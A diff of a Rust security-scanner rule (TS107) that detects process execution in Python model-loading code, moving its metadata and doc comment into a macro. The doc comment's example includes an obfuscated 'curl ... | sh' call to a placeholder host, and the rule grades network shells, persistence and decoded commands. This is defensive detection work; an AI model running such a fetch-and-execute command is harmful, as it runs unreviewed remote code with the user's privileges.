@@ -1,54 +1,48 @@
-//! TS107 process_execution.
-//!
-//! ## What it does
-//! Reports code that starts processes: `subprocess` (`Popen`, `run`, `call`, `check_call`,
-//! `check_output`, `getoutput`, `getstatusoutput`), `os.system`, `os.popen`, the `os.exec*`,
-//! `os.spawn*` and `os.posix_spawn*` families, `os.startfile`, `pty.spawn`,
-//! `commands.getoutput`, `asyncio.create_subprocess_exec`/`_shell` and `pexpect`, plus
-//! pip's in-process entry points (`pip.main`, `pip._internal.main`). Aliases, `getattr`,
-//! `__import__` and string folding are seen through, and the command is folded (lists
-//! joined, f-strings with unknown parts shown as `…`) so the finding is graded by what it
-//! runs: installing packages, cloning repositories, downloading, piping into a shell,
-//! opening a network shell, persistence and decoded commands are High; any other command
-//! Medium; well-known read-only diagnostics (`nvidia-smi`, `git rev-parse`) Low.
-//! `shell=True` is noted.
-//!
-//! ## Why is this bad?
-//! Code that runs when a model loads has the user's privileges; a child process escapes
-//! whatever the Python code appears to do (CWE-78). Installing packages at load time changes
-//! the user's environment with code nobody reviewed, and downloads fetch code the scan never
-//! sees. Bandit's B60x rules flag process calls in general; this rule grades them for model
-//! loading and sees through the obfuscation payloads use.
-//!
-//! ## Example
-//! ```python
-//! os.system("pip install example-package")
-//! getattr(__import__("o" + "s"), "system")("curl https://example.invalid/x | sh")
-//! ```
-
-use super::super::{Issue, Meta, Options, Rule};
 use super::support::{self, Folder, UNKNOWN};
 use crate::resolve::Resolver;
-use crate::walk::{Ctx, Kind};
+use crate::rules::{Issue, Options, Rule, rule};
+use crate::walk::Ctx;
 use trustscan_core::Level::{self, High, Low, Medium};
 use trustscan_pyparse::syntax::{self as ast, Expr};
 
-pub struct ProcessExecution;
-
-static META: Meta = Meta {
-    id: "TS107",
-    name: "process_execution",
-    cwe: 78,
-    severity: Medium,
-    confidence: High,
-    rationale: "Model code that starts processes runs commands with the user's privileges \
-                the moment the model loads. Commands that install packages, clone \
-                repositories, download or pipe data into a shell, open network shells, \
-                install persistence or come out of a decoder are graded High; other commands \
-                Medium. Aliases, getattr/__import__ indirection and string building are seen \
-                through.",
-    example: "os.system(\"pip install example-package\")",
-};
+rule! {
+    /// TS107 process_execution.
+    ///
+    /// ## What it does
+    /// Reports code that starts processes: `subprocess` (`Popen`, `run`, `call`, `check_call`,
+    /// `check_output`, `getoutput`, `getstatusoutput`), `os.system`, `os.popen`, the `os.exec*`,
+    /// `os.spawn*` and `os.posix_spawn*` families, `os.startfile`, `pty.spawn`,
+    /// `commands.getoutput`, `asyncio.create_subprocess_exec`/`_shell` and `pexpect`, plus
+    /// pip's in-process entry points (`pip.main`, `pip._internal.main`). Aliases, `getattr`,
+    /// `__import__` and string folding are seen through, and the command is folded (lists
+    /// joined, f-strings with unknown parts shown as `…`) so the finding is graded by what it
+    /// runs: installing packages, cloning repositories, downloading, piping into a shell,
+    /// opening a network shell, persistence and decoded commands are High; any other command
+    /// Medium; well-known read-only diagnostics (`nvidia-smi`, `git rev-parse`) Low.
+    /// `shell=True` is noted.
+    ///
+    /// ## Why is this bad?
+    /// Code that runs when a model loads has the user's privileges; a child process escapes
+    /// whatever the Python code appears to do (CWE-78). Installing packages at load time changes
+    /// the user's environment with code nobody reviewed, and downloads fetch code the scan never
+    /// sees. Bandit's B60x rules flag process calls in general; this rule grades them for model
+    /// loading and sees through the obfuscation payloads use.
+    ///
+    /// ## Example
+    /// ```python
+    /// os.system("pip install example-package")
+    /// getattr(__import__("o" + "s"), "system")("curl https://example.invalid/x | sh")
+    /// ```
+    pub struct ProcessExecution {
+        id: "TS107",
+        name: "process_execution",
+        cwe: 78,
+        severity: Medium,
+        confidence: High,
+        kinds: [Call],
+        example: "os.system(\"pip install example-package\")",
+    }
+}
 
 /// Functions that start a process, with how their command is passed.
 const SINKS: &[(&str, Cmd)] = &[
@@ -156,14 +150,6 @@ enum Cmd {
 }
 
 impl Rule for ProcessExecution {
-    fn meta(&self) -> &'static Meta {
-        &META
-    }
-
-    fn kinds(&self) -> &'static [Kind] {
-        &[Kind::Call]
-    }
-
     fn method_names(&self) -> Option<Vec<&'static str>> {
         Some(LAST_NAMES.last_parts())
     }
